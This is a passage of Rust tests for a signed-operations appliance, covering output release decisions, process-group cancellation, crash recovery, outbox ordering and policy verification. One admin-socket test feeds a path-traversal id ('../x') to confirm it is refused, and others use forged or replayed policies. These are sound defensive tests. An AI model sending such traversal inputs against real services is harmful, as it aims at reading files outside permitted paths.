    assert!(fx.control.ops.manifest(op_id(1)).unwrap().unwrap().release.is_some());
    assert_eq!(fx.audited("operation.released").len(), 1);
    assert_eq!(fx.audited("operation.release_refused").len(), 3);
    // Once decided, it stays decided.
    assert!(fx.control.release(&release_envelope(&fx, op_id(1), ReleaseDecision::Withhold, |_| {})).is_err());

    // Secret-tagged output: release refused, withholding allowed.
    let secret_manifest = MANIFEST.replace("service:logs", "output:secret");
    let stmt = fx.statement(op_id(33), &secret_manifest, SCRIPT, vars("api"));
    let approval = fx.grant(&stmt);
    fx.send(fx.instruction(&stmt, &secret_manifest, SCRIPT, &approval)).await;
    let err = fx.control.release(&release_envelope(&fx, op_id(33), ReleaseDecision::Release, |_| {})).unwrap_err();
    assert!(err.to_string().contains("never leaves this host"), "{err}");
    let (summary, msg) =
        fx.control.release(&release_envelope(&fx, op_id(33), ReleaseDecision::Withhold, |_| {})).unwrap();
    assert_eq!(summary["release"], "withhold");
    match msg.unwrap().body {
        Some(appliance_message::Body::OutputRelease(r)) => assert!(r.output.is_empty()),
        other => panic!("{other:?}"),
    }
}

/// Sends one raw line to the admin socket; returns the reply's text.
async fn raw_call(socket: &Path, line: &str) -> String {
    use tokio::io::{AsyncBufReadExt, AsyncWriteExt};
    let stream = tokio::net::UnixStream::connect(socket).await.unwrap();
    let (read, mut write) = stream.into_split();
    write.write_all(format!("{line}\n").as_bytes()).await.unwrap();
    let mut reply = String::new();
    tokio::io::BufReader::new(read).read_line(&mut reply).await.unwrap();
    reply
}

/// Processes of a group that are still alive (zombies waiting to be reaped do not count).
fn live_members(pgid: i32) -> usize {
    let mut n = 0;
    for e in std::fs::read_dir("/proc").unwrap().flatten() {
        let Ok(stat) = std::fs::read_to_string(e.path().join("stat")) else { continue };
        let Some(rest) = stat.rsplit_once(") ").map(|(_, r)| r) else { continue };
        let fields: Vec<&str> = rest.split_whitespace().collect();
        if fields.len() > 2 && fields[2] == pgid.to_string() && fields[0] != "Z" {
            n += 1;
        }
    }
    n
}

#[tokio::test]
async fn disabling_the_phase_kills_the_whole_process_group_and_records_cancelled() {
    let fx = Fx::new(ALL_PHASES);
    let script = "echo started\nsleep 60 &\nsleep 60\necho never\n";
    let stmt = fx.statement(op_id(26), MANIFEST, script, vars("api"));
    let approval = fx.grant(&stmt);
    let handle = match fx.exec.handle(fx.instruction(&stmt, MANIFEST, script, &approval)).await {
        Handled::Started(h) => h,
        other => panic!("{other:?}"),
    };
    let mut pgid = None;
    for _ in 0..100 {
        pgid = fx.control.running_group(op_id(26));
        if pgid.is_some_and(|g| live_members(g) >= 2) {
            break;
        }
        tokio::time::sleep(std::time::Duration::from_millis(50)).await;
    }
    let pgid = pgid.expect("the operation is running");
    assert!(live_members(pgid) >= 2, "the shell and its background sleep");
    // Asked again while it runs: nothing new starts.
    assert!(matches!(fx.exec.handle(fx.instruction(&stmt, MANIFEST, script, &approval)).await, Handled::Nothing));
    fx.control.set_phase(Phase::Operate, false).unwrap();
    let r = tokio::time::timeout(std::time::Duration::from_secs(10), handle).await.unwrap().unwrap();
    assert_eq!(r.outcome, Outcome::Cancelled, "{r:?}");
    assert_eq!(fx.execution(&r).status, ExecutionStatus::Cancelled);
    assert_eq!(fx.control.ops.record(op_id(26)).unwrap().unwrap().state, OpState::Cancelled);
    assert_eq!(fx.audited("operation.cancelled").len(), 1);
    let output = String::from_utf8(fx.control.ops.open_output(op_id(26)).unwrap()).unwrap();
    assert_eq!(output, "started\n");
    for _ in 0..50 {
        if live_members(pgid) == 0 {
            break;
        }
        std::thread::sleep(std::time::Duration::from_millis(20));
    }
    assert_eq!(live_members(pgid), 0, "the whole process group is gone");
}

#[tokio::test]
async fn a_new_policy_without_the_phase_cancels_running_operations() {
    let fx = Fx::new(ALL_PHASES);
    let script = "sleep 60\n";
    let stmt = fx.statement(op_id(30), MANIFEST, script, vars("api"));
    let handle = match fx.exec.handle(fx.instruction(&stmt, MANIFEST, script, &fx.grant(&stmt))).await {
        Handled::Started(h) => h,
        other => panic!("{other:?}"),
    };
    while fx.control.running_group(op_id(30)).is_none() {
        tokio::time::sleep(std::time::Duration::from_millis(20)).await;
    }
    let next = Envelope::new(POLICY_PAYLOAD_TYPE, b"version = 1\nserial = 2\nphases = [\"observe\"]\n".to_vec())
        .sign(&customer(1))
        .to_json();
    let status = fx.control.load_policy(next.as_bytes()).unwrap();
    assert_eq!(status.effective, vec![Phase::Observe]);
    let r = tokio::time::timeout(std::time::Duration::from_secs(10), handle).await.unwrap().unwrap();
    assert_eq!(r.outcome, Outcome::Cancelled);
    // A policy that does not verify is refused and the one in force stays.
    let forged = Envelope::new(POLICY_PAYLOAD_TYPE, ALL_PHASES.replace("serial = 1", "serial = 3").into_bytes())
        .sign(&customer(9))
        .to_json();
    assert!(fx.control.load_policy(forged.as_bytes()).is_err());
    assert_eq!(fx.control.status().policy_serial, Some(2));
}

#[tokio::test]
async fn an_operation_interrupted_by_a_stop_is_recorded_cancelled_at_restart() {
    let mut fx = Fx::new(ALL_PHASES);
    let script = "sleep 60\n";
    let stmt = fx.statement(op_id(25), MANIFEST, script, vars("api"));
    let handle = match fx.exec.handle(fx.instruction(&stmt, MANIFEST, script, &fx.grant(&stmt))).await {
        Handled::Started(h) => h,
        other => panic!("{other:?}"),
    };
    let pgid = loop {
        if let Some(g) = fx.control.running_group(op_id(25)) {
            break g;
        }
        tokio::time::sleep(std::time::Duration::from_millis(20)).await;
    };
    // The appliance stops: its tasks are dropped before they record anything, and what it
    // runs is killed on the way out.
    handle.abort();
    assert!(handle.await.unwrap_err().is_cancelled());
    let old = fx.control.clone();
    assert!(live_members(pgid) >= 1, "dropping the task does not stop the process");
    old.kill_all_running();
    for _ in 0..100 {
        if live_members(pgid) == 0 {
            break;
        }
        tokio::time::sleep(std::time::Duration::from_millis(20)).await;
    }
    assert_eq!(live_members(pgid), 0);
    fx.restart();
    assert_eq!(fx.exec.recover_interrupted().unwrap(), 1);
    let record = fx.control.ops.record(op_id(25)).unwrap().unwrap();
    assert_eq!(record.state, OpState::Cancelled);
    assert_eq!(fx.run(&stmt, "").await.outcome, Outcome::Cancelled);
    assert_eq!(fx.audited("operation.interrupted").len(), 1);
}

#[tokio::test]
async fn admin_socket_serves_operations_output_release_and_pre_approvals() {
    use crate::admin::{Request, bind, call, call_value, read_output, serve};
    let fx = Fx::new(ALL_PHASES);
    let stmt = fx.simple(op_id(1), "api");
    fx.run(&stmt, &fx.grant(&stmt)).await;
    let socket = fx.dir.path().join(crate::admin::SOCKET_FILE);
    let server = tokio::spawn(serve(fx.control.clone(), bind(&socket).unwrap()));

    let list = call_value(&socket, &Request::Operations).await.unwrap();
    assert_eq!(list[0]["id"], op_id(1).to_string());
    assert_eq!(list[0]["state"], "executed");
    assert_eq!(list[0]["release"], serde_json::Value::Null);
    let (bytes, reply) = read_output(&socket, op_id(1)).await.unwrap();
    assert_eq!(bytes, fx.control.ops.open_output(op_id(1)).unwrap());
    assert_eq!(reply["output_size"], bytes.len());
    assert_eq!(fx.audited("operation.output_read").len(), 1);
    let manifest = call_value(&socket, &Request::Manifest { id: op_id(1) }).await.unwrap();
    assert_eq!(manifest["request_id"], op_id(1).to_string());
    // An id that is not an operation id is refused before it reaches a path.
    let err = raw_call(&socket, r#"{"cmd":"manifest","id":"../x"}"#).await;
    assert!(err.contains("malformed request"), "{err}");

    let envelope: serde_json::Value =
        serde_json::from_slice(&release_envelope(&fx, op_id(1), ReleaseDecision::Release, |_| {})).unwrap();
    let released = call_value(&socket, &Request::Release { envelope }).await.unwrap();
    assert_eq!(released["release"], "release");

    let envelope: serde_json::Value = serde_json::from_slice(&fx.pre_approval(|_| {})).unwrap();
    let added = call_value(&socket, &Request::PreApprovalAdd { envelope }).await.unwrap();
    assert_eq!((added["id"].as_str(), added["runs_used"].as_u64()), (Some("routine"), Some(0)));
    call_value(&socket, &Request::PreApprovalRevoke { id: "routine".into() }).await.unwrap();
    let list = call_value(&socket, &Request::PreApprovals).await.unwrap();
    assert_eq!(list[0]["revoked"], true);

    // The phase commands keep their typed client.
    let status = call(&socket, &Request::Phase { phase: Phase::Deploy, enabled: false }).await.unwrap();
    assert_eq!(status.disabled, vec![Phase::Deploy]);
    server.abort();
}

#[tokio::test]
async fn an_execution_signed_just_before_a_stop_is_completed_without_a_chain_gap() {
    let mut fx = Fx::new(ALL_PHASES);
    let stmt = fx.simple(op_id(1), "api");
    let r = fx.run(&stmt, &fx.grant(&stmt)).await;
    // The stop came after the execution was signed and in the manifest, before it was recorded.
    fx.control
        .ops
        .update_record(op_id(1), |r| {
            r.state = OpState::Running;
            r.result = None;
            Ok(())
        })
        .unwrap();
    fx.control.ops.acknowledge(op_id(1), false).unwrap();
    let head = fx.control.ops.chain_head().unwrap();
    fx.restart();
    assert_eq!(fx.exec.recover_interrupted().unwrap(), 1);
    assert_eq!(fx.control.ops.chain_head().unwrap(), head, "nothing was signed again");
    assert_eq!(fx.run(&stmt, "").await, r);
    assert_eq!(fx.control.ops.pending().unwrap().len(), 1, "the result is queued again");
}

/// Starts an operation whose script sleeps a little, then makes the named writes fail once
/// each while it runs (the decision's writes are done by then).
async fn run_with_faults(fx: &Fx, id: OperationId, faults: &[&'static str]) -> ResultMsg {
    let script = "sleep 0.2\necho done\n";
    let stmt = fx.statement(id, MANIFEST, script, vars("api"));
    let handle = match fx.exec.handle(fx.instruction(&stmt, MANIFEST, script, &fx.grant(&stmt))).await {
        Handled::Started(h) => h,
        other => panic!("{other:?}"),
    };
    fx.control.ops.faults.lock().unwrap().extend_from_slice(faults);
    handle.await.unwrap()
}

#[tokio::test]
async fn a_failure_to_record_a_run_is_recovered_at_once_and_its_result_queued() {
    let fx = Fx::new(ALL_PHASES);
    // The chain head cannot be written once (disk full) after the execution was signed.
    let r = run_with_faults(&fx, op_id(21), &["chain"]).await;
    assert_eq!(r.outcome, Outcome::Executed, "{r:?}");
    let e = fx.execution(&r);
    assert_eq!((e.status, e.exit_code, e.sequence), (ExecutionStatus::Completed, Some(0), 1));
    assert_eq!(fx.control.ops.open_output(op_id(21)).unwrap(), b"done\n");
    assert_eq!(fx.control.ops.record(op_id(21)).unwrap().unwrap().state, OpState::Executed);
    assert_eq!(fx.control.ops.chain_head().unwrap().sequence, 1);
    assert_eq!(fx.control.ops.pending().unwrap().len(), 1, "the result is queued");
    assert_eq!(fx.audited("operation.error").len(), 1);
    // The chain goes on from it.
    let stmt = fx.simple(op_id(23), "api");
    let e2 = fx.execution(&fx.run(&stmt, &fx.grant(&stmt)).await);
    assert_eq!((e2.sequence, e2.previous_manifest_sha256), (2, Some(e.manifest_sha256())));
}

#[tokio::test]
async fn a_run_left_unrecorded_is_finished_by_the_next_instruction_for_it() {
    let fx = Fx::new(ALL_PHASES);
    // Recording fails, and so does the immediate second try.
    let r = run_with_faults(&fx, op_id(36), &["result", "result"]).await;
    assert_ne!(r.outcome, Outcome::Executed);
    assert_eq!(fx.control.ops.record(op_id(36)).unwrap().unwrap().state, OpState::Running);
    assert!(fx.control.ops.pending().unwrap().is_empty());
    // The control plane asks again (it has no result): it is finished from the signed manifest.
    let stmt = fx.statement(op_id(36), MANIFEST, "sleep 0.2\necho done\n", vars("api"));
    let again = fx.send(fx.instruction(&stmt, MANIFEST, "sleep 0.2\necho done\n", "")).await;
    assert_eq!(again.outcome, Outcome::Executed, "{again:?}");
    assert_eq!(fx.execution(&again).sequence, 1, "signed once");
    assert_eq!(fx.control.ops.chain_head().unwrap().sequence, 1);
    assert_eq!(fx.control.ops.record(op_id(36)).unwrap().unwrap().state, OpState::Executed);
    assert_eq!(fx.control.ops.pending().unwrap().len(), 1);
}

#[tokio::test]
async fn a_failed_manifest_write_never_leaves_the_chain_head_naming_a_lost_statement() {
    let fx = Fx::new(ALL_PHASES);
    // The manifest with the signed execution cannot be written once.
    let r = run_with_faults(&fx, op_id(27), &["manifest"]).await;
    assert_eq!(r.outcome, Outcome::Executed, "{r:?}");
    // The statement that could not be stored was never named by the head: the one signed
    // again takes its place, so the chain has no gap.
    let e = fx.execution(&r);
    assert_eq!((e.sequence, e.previous_manifest_sha256.as_deref()), (1, None));
    let head = fx.control.ops.chain_head().unwrap();
    assert_eq!((head.sequence, head.manifest_sha256), (1, Some(e.manifest_sha256())));
    let manifest = fx.control.ops.manifest(op_id(27)).unwrap().unwrap();
    assert_eq!(manifest.execution.unwrap().to_json(), r.execution_envelope_json);
}

#[tokio::test]
async fn a_statement_stored_before_its_chain_head_is_taken_up_at_recovery() {
    let mut fx = Fx::new(ALL_PHASES);
    let stmt = fx.simple(op_id(1), "api");
    let r = fx.run(&stmt, &fx.grant(&stmt)).await;
    let e = fx.execution(&r);
    // The stop came after the signed execution was stored, before the head was written.
    std::fs::remove_file(fx.dir.path().join(crate::ops_store::CHAIN_FILE)).unwrap();
    fx.control
        .ops
        .update_record(op_id(1), |r| {
            r.state = OpState::Running;
            r.result = None;
            Ok(())
        })
        .unwrap();
    fx.restart();
    assert_eq!(fx.exec.recover_interrupted().unwrap(), 1);
    let head = fx.control.ops.chain_head().unwrap();
    assert_eq!((head.sequence, head.manifest_sha256), (1, Some(e.manifest_sha256())));
    assert_eq!(fx.run(&stmt, "").await, r);
    let stmt2 = fx.simple(op_id(2), "api");
    let e2 = fx.execution(&fx.run(&stmt2, &fx.grant(&stmt2)).await);
    assert_eq!((e2.sequence, e2.previous_manifest_sha256), (2, Some(e.manifest_sha256())));
}

#[tokio::test]
async fn a_script_left_running_by_a_crash_is_killed_at_recovery() {
    let mut fx = Fx::new(ALL_PHASES);
    let script = "sleep 60 &\nsleep 60\n";
    let stmt = fx.statement(op_id(15), MANIFEST, script, vars("api"));
    let handle = match fx.exec.handle(fx.instruction(&stmt, MANIFEST, script, &fx.grant(&stmt))).await {
        Handled::Started(h) => h,
        other => panic!("{other:?}"),
    };
    let mut pgid = None;
    for _ in 0..100 {
        pgid = fx.control.ops.record(op_id(15)).unwrap().unwrap().pgid;
        if pgid.is_some_and(|g| live_members(g) >= 2) {
            break;
        }
        tokio::time::sleep(std::time::Duration::from_millis(50)).await;
    }
    let pgid = pgid.expect("the process group is recorded");
    assert_eq!(fx.control.running_group(op_id(15)), Some(pgid));
    // The appliance crashes: nothing of it runs on, nothing kills the script.
    handle.abort();
    let _ = handle.await;
    assert!(live_members(pgid) >= 2);
    fx.restart();
    assert_eq!(fx.exec.recover_interrupted().unwrap(), 1);
    for _ in 0..100 {
        if live_members(pgid) == 0 {
            break;
        }
        tokio::time::sleep(std::time::Duration::from_millis(20)).await;
    }
    assert_eq!(live_members(pgid), 0, "the orphaned script and its children are gone");
    assert_eq!(fx.control.ops.record(op_id(15)).unwrap().unwrap().state, OpState::Cancelled);
}

#[tokio::test]
async fn two_decisions_about_one_output_at_once_admit_exactly_one() {
    let fx = Fx::new(ALL_PHASES);
    for n in 0..5 {
        let id = op_id(100 + n);
        let stmt = fx.simple(id, "api");
        fx.run(&stmt, &fx.grant(&stmt)).await;
        let release = release_envelope(&fx, id, ReleaseDecision::Release, |_| {});
        let withhold = release_envelope(&fx, id, ReleaseDecision::Withhold, |_| {});
        let barrier = Arc::new(std::sync::Barrier::new(2));
        let calls: Vec<_> = [release, withhold]
            .into_iter()
            .map(|env| {
                let (control, barrier) = (fx.control.clone(), barrier.clone());
                std::thread::spawn(move || {
                    barrier.wait();
                    control.release(&env).map(|(summary, _)| summary)
                })
            })
            .collect();
        let outcomes: Vec<_> = calls.into_iter().map(|t| t.join().unwrap()).collect();
        let won: Vec<_> = outcomes.iter().filter_map(|o| o.as_ref().ok()).collect();
        assert_eq!(won.len(), 1, "{outcomes:?}");
        let lost = outcomes.iter().find_map(|o| o.as_ref().err()).unwrap();
        assert!(lost.to_string().contains("already decided"), "{lost}");
        // What is recorded, in the manifest and queued is the one decision that held.
        let record = fx.control.ops.record(id).unwrap().unwrap();
        let decided = if won[0]["release"] == "release" { ReleaseDecision::Release } else { ReleaseDecision::Withhold };
        assert_eq!(record.release, Some(decided));
        let manifest = fx.control.ops.manifest(id).unwrap().unwrap();
        let signed: ReleaseStatement = serde_json::from_slice(&manifest.release.unwrap().payload).unwrap();
        assert_eq!(signed.decision, decided);
    }
}

#[tokio::test]
async fn a_release_needs_as_many_customer_signatures_as_the_policy_asks() {
    let fx = Fx::new(&format!("{ALL_PHASES}approvals_required = 2\n"));
    assert_eq!(fx.control.threshold(), 2);
    let stmt = fx.simple(op_id(10), "api");
    let grant = Envelope::from_json(fx.grant(&stmt).as_bytes()).unwrap().sign(&customer(2)).to_json();
    assert_eq!(fx.run(&stmt, &grant).await.outcome, Outcome::Executed);
    // One signature is not enough.
    let one = release_envelope(&fx, op_id(10), ReleaseDecision::Release, |_| {});
    let err = fx.control.release(&one).unwrap_err();
    assert!(err.to_string().contains("does not verify"), "{err}");
    assert_eq!(fx.control.ops.record(op_id(10)).unwrap().unwrap().release, None);
    // Two distinct pinned keys (what `airlock customer release --key a --key b` signs) are.
    let two = Envelope::from_json(&one).unwrap().sign(&customer(2)).to_json().into_bytes();
    let (summary, _) = fx.control.release(&two).unwrap();
    assert_eq!(summary["release"], "release");
}

fn kinds(msgs: &[ApplianceMessage]) -> Vec<(&'static str, OperationId)> {
    use appliance_message::Body;
    msgs.iter()
        .map(|m| match &m.body {
            Some(Body::OperationResult(r)) => ("result", r.request_id.parse().unwrap()),
            Some(Body::OutputRelease(r)) => ("release", r.request_id.parse().unwrap()),
            other => panic!("{other:?}"),
        })
        .collect()
}

#[tokio::test]
async fn at_reconnect_results_go_before_releases_and_a_local_release_does_not_overtake_them() {
    use crate::admin::Request;
    let fx = Fx::new(ALL_PHASES);
    // Disconnected: three results and one release wait in the outbox.
    for id in [op_id(1), op_id(2), op_id(3)] {
        let stmt = fx.simple(id, "api");
        fx.run(&stmt, &fx.grant(&stmt)).await;
    }
    fx.control.release(&release_envelope(&fx, op_id(1), ReleaseDecision::Release, |_| {})).unwrap();
    // The stream comes up; it takes one message at a time, so the resend is still going when
    // the customer releases the output of the last operation on this host.
    let (tx, mut rx) = tokio::sync::mpsc::channel(1);
    let control = fx.control.clone();
    let resend = tokio::spawn(async move { control.outbound.connected(tx).await });
    tokio::time::sleep(std::time::Duration::from_millis(100)).await;
    let envelope: serde_json::Value =
        serde_json::from_slice(&release_envelope(&fx, op_id(3), ReleaseDecision::Release, |_| {})).unwrap();
    let control = fx.control.clone();
    let local = tokio::spawn(async move { crate::admin::handle(&control, Request::Release { envelope }).await });
    tokio::time::sleep(std::time::Duration::from_millis(100)).await;
    let mut got = Vec::new();
    while got.len() < 5 {
        let m = tokio::time::timeout(std::time::Duration::from_secs(5), rx.recv()).await.unwrap().unwrap();
        got.push(m);
    }
    resend.await.unwrap();
    local.await.unwrap().unwrap();
    assert_eq!(
        kinds(&got),
        [
            ("result", op_id(1)),
            ("result", op_id(2)),
            ("result", op_id(3)),
            ("release", op_id(1)),
            ("release", op_id(3))
        ]
    );
}

#[tokio::test]
async fn a_release_the_control_plane_cannot_take_yet_stays_in_the_outbox() {
    let fx = Fx::new(ALL_PHASES);
    let stmt = fx.simple(op_id(1), "api");
    fx.run(&stmt, &fx.grant(&stmt)).await;
    fx.control.release(&release_envelope(&fx, op_id(1), ReleaseDecision::Release, |_| {})).unwrap();
    let _ =
        fx.control.outbound.on_ack(&ack(op_id(1), OperationAckKind::Release, AckCode::Retry, "no result stored yet"));
    assert_eq!(kinds(&fx.control.ops.pending().unwrap()), [("result", op_id(1)), ("release", op_id(1))]);
    let _ = fx.control.outbound.on_ack(&stored(op_id(1), OperationAckKind::Result));
    let _ = fx.control.outbound.on_ack(&stored(op_id(1), OperationAckKind::Release));
    assert!(fx.control.ops.pending().unwrap().is_empty());
}

#[tokio::test]
async fn a_final_release_refusal_and_a_retryable_one_are_told_apart_by_code_not_text() {
    let fx = Fx::new(ALL_PHASES);
    let stmt = fx.simple(op_id(1), "api");
    fx.run(&stmt, &fx.grant(&stmt)).await;
    let _ = fx.control.outbound.on_ack(&stored(op_id(1), OperationAckKind::Result));
    fx.control.release(&release_envelope(&fx, op_id(1), ReleaseDecision::Release, |_| {})).unwrap();
    // The same words, and the words the final refusal of a release on the control plane uses.
    let words = "operation has no execution whose output could be released";
    // Retry: kept, to go again after its result; nothing is audited as refused.
    let retry = ack(op_id(1), OperationAckKind::Release, AckCode::Retry, words);
    assert!(fx.control.outbound.on_ack(&retry).is_none());
    assert_eq!(kinds(&fx.control.ops.pending().unwrap()), [("release", op_id(1))]);
    assert!(fx.audited("operation.ack_refused").is_empty());
    assert!(fx.control.ops.parked_releases().unwrap().is_empty());
    // No code, or one this build does not know: never taken as stored; kept, and audited.
    for code in [0, 99] {
        let mut unknown = ack(op_id(1), OperationAckKind::Release, AckCode::Stored, words);
        unknown.code = code;
        assert!(fx.control.outbound.on_ack(&unknown).is_none());
        assert_eq!(kinds(&fx.control.ops.pending().unwrap()), [("release", op_id(1))]);
    }
    assert_eq!(fx.audited("operation.error").len(), 2);
    // Refused: final. Out of the outbox, kept in `parked/`, audited.
    let refused = ack(op_id(1), OperationAckKind::Release, AckCode::Refused, words);
    assert!(fx.control.outbound.on_ack(&refused).is_none());
    assert!(fx.control.ops.pending().unwrap().is_empty());
    assert_eq!(fx.control.ops.parked_releases().unwrap(), [op_id(1)]);
    assert_eq!(fx.audited("operation.ack_refused").len(), 1);
    assert_eq!(fx.audited("operation.release_parked").len(), 1);
}

#[tokio::test]
async fn a_release_waiting_for_its_result_goes_as_soon_as_the_result_is_acknowledged() {
    let fx = Fx::new(ALL_PHASES);
    for id in [op_id(1), op_id(2)] {
        let stmt = fx.simple(id, "api");
        fx.run(&stmt, &fx.grant(&stmt)).await;
    }
    fx.control.release(&release_envelope(&fx, op_id(1), ReleaseDecision::Release, |_| {})).unwrap();
    // op_2 has no release waiting: nothing follows its result.
    assert!(fx.control.outbound.on_ack(&stored(op_id(2), OperationAckKind::Result)).is_none());
    // op_1's release was sent before its result was stored (the control plane does not answer
    // such a release): storing the result sends it at once, not at the next reconnect.
    let next = fx.control.outbound.on_ack(&stored(op_id(1), OperationAckKind::Result)).expect("the waiting release");
    assert_eq!(kinds(std::slice::from_ref(&next)), [("release", op_id(1))]);
    // It goes on the current stream.
    let (tx, mut rx) = tokio::sync::mpsc::channel(4);
    fx.control.outbound.connected(tx).await;
    assert_eq!(kinds(&[rx.recv().await.unwrap()]), [("release", op_id(1))]);
    fx.control.outbound.send(next).await;
    assert_eq!(kinds(&[rx.recv().await.unwrap()]), [("release", op_id(1))]);
    // Acknowledged: gone, and a second result ack sends nothing.
    assert!(fx.control.outbound.on_ack(&stored(op_id(1), OperationAckKind::Release)).is_none());
    assert!(fx.control.outbound.on_ack(&stored(op_id(1), OperationAckKind::Result)).is_none());
    assert!(fx.control.ops.pending().unwrap().is_empty());
}

#[tokio::test]
async fn a_release_whose_result_is_refused_for_good_is_parked_not_resent() {
    let fx = Fx::new(ALL_PHASES);
    for id in [op_id(1), op_id(2)] {
        let stmt = fx.simple(id, "api");
        fx.run(&stmt, &fx.grant(&stmt)).await;
    }
    fx.control.release(&release_envelope(&fx, op_id(1), ReleaseDecision::Release, |_| {})).unwrap();
    let refused = |id: OperationId| {
        ack(id, OperationAckKind::Result, AckCode::Refused, "the execution is not signed by this appliance")
    };
    assert!(fx.control.outbound.on_ack(&refused(op_id(1))).is_none());
    // Neither the result nor its release is resent at the next reconnect ...
    assert_eq!(kinds(&fx.control.ops.pending().unwrap()), [("result", op_id(2))]);
    // ... but both are kept on disk, and the parking is audited.
    assert_eq!(fx.control.ops.parked_releases().unwrap(), [op_id(1)]);
    assert!(fx.dir.path().join(format!("parked/{}.result.json", op_id(1))).exists());
    let parked = fx.audited("operation.release_parked");
    assert_eq!(parked.len(), 1);
    assert_eq!(parked[0]["detail"]["request_id"], op_id(1).to_string());
    // A release decided after the result was refused is parked at once and not sent.
    assert!(fx.control.outbound.on_ack(&refused(op_id(2))).is_none());
    assert_eq!(fx.audited("operation.release_parked").len(), 1);
    let (summary, msg) =
        fx.control.release(&release_envelope(&fx, op_id(2), ReleaseDecision::Withhold, |_| {})).unwrap();
    assert_eq!(summary["release"], "withhold");
    assert!(msg.is_none());
    assert!(fx.control.ops.pending().unwrap().is_empty());
    assert_eq!(fx.control.ops.parked_releases().unwrap(), [op_id(1), op_id(2)]);
    assert_eq!(fx.audited("operation.release_parked").len(), 2);
}

#[tokio::test]
async fn a_policy_relayed_by_the_control_plane_is_applied_like_one_loaded_on_the_host() {
    let fx = Fx::new(ALL_PHASES);
    let script = "sleep 60\n";
    let stmt = fx.statement(op_id(32), MANIFEST, script, vars("api"));
    let handle = match fx.exec.handle(fx.instruction(&stmt, MANIFEST, script, &fx.grant(&stmt))).await {
        Handled::Started(h) => h,
        other => panic!("{other:?}"),
    };
    while fx.control.running_group(op_id(32)).is_none() {
        tokio::time::sleep(std::time::Duration::from_millis(20)).await;
    }
    let observe_only =
        format!("version = 1\nserial = 2\nenvironment = \"{}\"\nphases = [\"observe\"]\n", fx.identity.environment)
            .into_bytes();
    let next = Envelope::new(POLICY_PAYLOAD_TYPE, observe_only.clone()).sign(&customer(1)).to_json();
    let status = fx.control.relayed_policy(next.as_bytes()).unwrap().expect("a change");
    assert_eq!((status.policy_serial, status.effective.clone()), (Some(2), vec![Phase::Observe]));
    // Running operations of a phase it no longer enables are cancelled, as for a local one.
    let r = tokio::time::timeout(std::time::Duration::from_secs(10), handle).await.unwrap().unwrap();
    assert_eq!(r.outcome, Outcome::Cancelled);
    // Stored like a local one, so it is in force after a restart.
    let stored = std::fs::read(fx.dir.path().join("policy.dsse.json")).unwrap();
    assert_eq!(Envelope::from_json(&stored).unwrap().payload, observe_only);
    let updates = fx.audited("policy.update");
    assert_eq!(updates.len(), 1);
    assert_eq!(updates[0]["detail"]["source"], "control_plane");
    // The policy in force again (sent after every connect): nothing happens, nothing audited.
    assert!(fx.control.relayed_policy(next.as_bytes()).unwrap().is_none());
    assert_eq!(fx.audited("policy.update").len(), 1);

    // Signed by a key the customer did not pin (the vendor's own): refused and audited, the
    // policy in force stays; the same envelope again is not audited again.
    let with_env = |serial: &str| {
        ALL_PHASES.replace("serial = 1", &format!("serial = {serial}\nenvironment = \"{}\"", fx.identity.environment))
    };
    let vendor = Envelope::new(POLICY_PAYLOAD_TYPE, with_env("3").into_bytes()).sign(&customer(9)).to_json();
    let err = fx.control.relayed_policy(vendor.as_bytes()).unwrap_err();
    assert!(err.to_string().contains("signature"), "{err}");
    assert_eq!(fx.control.status().policy_serial, Some(2));
    assert_eq!(fx.control.effective_phases(), [Phase::Observe].into());
    assert!(fx.control.relayed_policy(vendor.as_bytes()).unwrap().is_none());
    let refused = fx.audited("policy.refused");
    assert_eq!(refused.len(), 1);
    assert_eq!(refused[0]["outcome"], "denied");
    assert!(refused[0]["detail"]["reason"].as_str().unwrap().contains("signature"), "{refused:?}");
    // An older policy, properly signed: the no-rollback rule holds for relayed ones too.
    let older = Envelope::new(POLICY_PAYLOAD_TYPE, with_env("1").into_bytes()).sign(&customer(1)).to_json();
    let err = fx.control.relayed_policy(older.as_bytes()).unwrap_err();
    assert!(err.to_string().contains("older"), "{err}");
    assert_eq!(fx.audited("policy.refused").len(), 2);
    assert_eq!(fx.control.status().policy_serial, Some(2));
    // An unsigned envelope or one that is not a policy: refused too.
    assert!(fx.control.relayed_policy(b"{}").is_err());
    assert_eq!(fx.audited("policy.refused").len(), 3);

    // A customer-signed policy for another environment, or one naming none, replayed by the
    // vendor: refused, even though its signature and serial are good.
    let elsewhere = ALL_PHASES
        .replace("serial = 1", &format!("serial = 7\nenvironment = \"{}\"", EnvironmentId::from_random([42; 16])));
    for text in [elsewhere, ALL_PHASES.replace("serial = 1", "serial = 7")] {
        let replayed = Envelope::new(POLICY_PAYLOAD_TYPE, text.into_bytes()).sign(&customer(1)).to_json();
        let err = fx.control.relayed_policy(replayed.as_bytes()).unwrap_err();
        assert!(err.to_string().contains("environment"), "{err}");
    }
    assert_eq!(fx.control.status().policy_serial, Some(2));
    assert_eq!(fx.audited("policy.refused").len(), 5);
    // On the host, the customer may load one naming no environment (their own act), but never
    // one for another environment.
    let local = Envelope::new(POLICY_PAYLOAD_TYPE, ALL_PHASES.replace("serial = 1", "serial = 8").into_bytes())
        .sign(&customer(1))
        .to_json();
    fx.control.load_policy(local.as_bytes()).unwrap();
    assert_eq!(fx.control.status().policy_serial, Some(8));
}
